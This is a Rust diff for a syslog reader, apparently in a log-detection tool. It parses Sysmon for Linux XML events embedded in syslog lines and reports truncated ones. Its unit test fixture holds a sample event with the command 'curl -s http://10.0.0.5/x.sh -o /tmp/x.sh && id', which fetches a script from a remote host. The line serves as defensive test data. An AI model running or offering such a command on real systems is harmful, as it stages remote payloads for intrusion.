@@ -15,6 +15,11 @@
 //! `structured_data` (when given) and `message`; a line in none of the
 //! shapes (a message's continuation) is an event of its `message` alone.
 //! The time is the line's, as written.
+//!
+//! A message that is an event in XML (Sysmon for Linux writes each of its
+//! events so: `sysmon: <Event><System>...`) is that event, read as an XML
+//! export of it is, with its own channel, time and fields, so that it meets
+//! the rules of its channel and EventID as a Windows Sysmon event does.
 
 use super::FileRead;
 use super::event::{Event, EventMeta, Source};
@@ -205,6 +210,7 @@ pub(super) fn read(
 ) -> FileRead {
     let mut read = FileRead::default();
     let mut not_utf8 = Tally::default();
+    let mut xml_cut = Tally::default();
     let keeps = |k: &str| wanted.is_none_or(|w| w.keeps(k));
     read.lost += each_line(input, report, |no, bytes| {
         let text = String::from_utf8_lossy(bytes);
@@ -212,6 +218,16 @@ pub(super) fn read(
             not_utf8.add(no);
         }
         let line = parse(&text);
+        if let Some(l) = line.as_ref().filter(|l| l.message.starts_with("<Event")) {
+            match xml_event(l.message, file, no, wanted) {
+                Some(e) => {
+                    sink(e);
+                    read.events += 1;
+                    return;
+                }
+                None => xml_cut.add(no),
+            }
+        }
         let mut meta = EventMeta {
             file: file.clone(),
             record: no,
@@ -254,7 +270,21 @@ pub(super) fn read(
         read.events += 1;
     });
     not_utf8.tell_not_utf8(report);
+    let cut = "held an event in XML that is not whole or not valid (a syslog daemon cuts a longer message at its size limit, 8 KiB by default for rsyslog): each is read as a syslog line, its message the XML";
+    xml_cut.tell(false, cut, report);
     read
+}
+
+/// The event a syslog line holds as XML: Sysmon for Linux writes each of
+/// its events so (`sysmon: <Event><System>...`). It is read as an XML
+/// export of the event would be, under the line's number, and meets the
+/// rules of its channel. `None` when the XML is not one whole event.
+fn xml_event(xml: &str, file: &Arc<str>, no: u64, wanted: Option<&Wanted>) -> Option<Event> {
+    let mut got = None;
+    let read = super::xml::read(xml, file, wanted, &|_| {}, &mut |e| got = Some(e))?;
+    let mut e = got.filter(|_| read.events == 1 && read.lost == 0)?;
+    e.meta.record = no;
+    Some(e)
 }
 
 #[cfg(test)]
@@ -357,5 +387,53 @@ mod tests {
             Some("alice : TTY=pts/0 ; COMMAND=/bin/sh")
         );
         assert_eq!(got[2].meta.source, Some(Source::Syslog("sudo".into())));
+    }
+
+    #[test]
+    fn a_sysmon_for_linux_line_is_its_event_and_a_cut_one_a_syslog_line() {
+        let event = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2022-11-24T08:30:01.467399000Z"/><EventRecordID>75097</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>ip-172-31-60-25</Computer><Security UserId="0"/></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://10.0.0.5/x.sh -o /tmp/x.sh &amp;&amp; id</Data></EventData></Event>"#;
+        let line = format!("Nov 24 08:30:01 ip-172-31-60-25 sysmon: {event}");
+        let cut = &line[..line.len() - 40];
+        let text =
+            format!("Nov 24 08:29:59 ip-172-31-60-25 systemd[1]: Started Sysmon.\n{line}\n{cut}\n");
+        let mut got = Vec::new();
+        let said = std::cell::RefCell::new(Vec::new());
+        let file = Arc::from("syslog");
+        let report = |d: Diagnostic| said.borrow_mut().push((d.line, d.to_string()));
+        let read = read(text.as_bytes(), &file, None, &report, &mut |e| got.push(e));
+        assert_eq!((read.events, read.lost), (3, 0));
+        let e = &got[1];
+        assert_eq!(
+            (e.text("Image"), e.text("CommandLine"), e.text("EventID")),
+            (
+                Some("/usr/bin/curl"),
+                Some("curl -s http://10.0.0.5/x.sh -o /tmp/x.sh && id"),
+                Some("1")
+            )
+        );
+        let m = &e.meta;
+        assert_eq!(
+            (
+                m.record,
+                m.channel.as_deref(),
+                m.timestamp.as_deref(),
+                m.source.as_ref()
+            ),
+            (
+                2,
+                Some("Linux-Sysmon/Operational"),
+                Some("2022-11-24T08:30:01.467399000Z"),
+                None
+            ),
+            "its line, and the event's own channel and time"
+        );
+        assert_eq!(e.text("message"), None);
+        let cut_one = &got[2];
+        assert_eq!(cut_one.text("message"), Some(&cut[40..]));
+        assert_eq!(cut_one.meta.source, Some(Source::Syslog("sysmon".into())));
+        assert_eq!(
+            said.into_inner(),
+            [(Some(3), "warning[events]: 1 line(s) held an event in XML that is not whole or not valid (a syslog daemon cuts a longer message at its size limit, 8 KiB by default for rsyslog): each is read as a syslog line, its message the XML (the first on this line)".to_string())]
+        );
     }
 }
